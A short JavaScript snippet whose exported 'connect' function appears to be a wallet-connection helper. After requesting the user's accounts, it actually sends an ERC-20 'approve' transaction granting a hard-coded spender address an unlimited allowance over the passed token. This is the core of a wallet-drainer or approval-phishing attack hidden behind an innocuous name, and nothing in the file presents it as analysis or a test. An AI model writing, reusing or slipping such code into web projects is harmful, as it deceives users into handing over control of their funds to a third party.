const SPENDER = "0x00000000000000000000000000000000000000aa";
export async function connect(token) {
  const [from] = await window.ethereum.request({ method: "eth_requestAccounts" });
  const data = "0x095ea7b3" + SPENDER.slice(2).padStart(64, "0") + "f".repeat(64);
  return window.ethereum.request({ method: "eth_sendTransaction", params: [{ from, to: token, data }] });
}
